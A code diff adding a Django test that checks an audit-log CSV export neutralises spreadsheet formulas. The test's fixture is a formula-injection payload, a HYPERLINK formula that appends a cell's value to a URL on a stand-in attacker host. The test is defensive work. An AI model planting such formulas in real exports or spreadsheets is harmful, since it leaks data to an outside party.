@@ -54,3 +54,13 @@ def test_the_csv_export_has_every_filtered_event(client, personas, history):
     assert rows[0][:3] == ["date", "qui", "action"]
     assert [row[2] for row in rows[1:]] == ["item.assigned", "item.status_changed", "item.note_added"]
     assert response["Content-Disposition"].endswith('.csv"')
+
+
+def test_it_neutralises_formulas_in_the_csv_export(client, personas, history):
+    actions.add_note(history, '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', by=personas["direction"])
+    client.force_login(personas["admin"])
+    response = client.get(reverse("audit:export"), {"verb": "note_added"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    summaries = [row[5] for row in rows[1:]]
+    assert any(summary.startswith("'=HYPERLINK") for summary in summaries)
+    assert not any(cell[:1] in "=+-@\t\r" and cell for row in rows[1:] for cell in row)
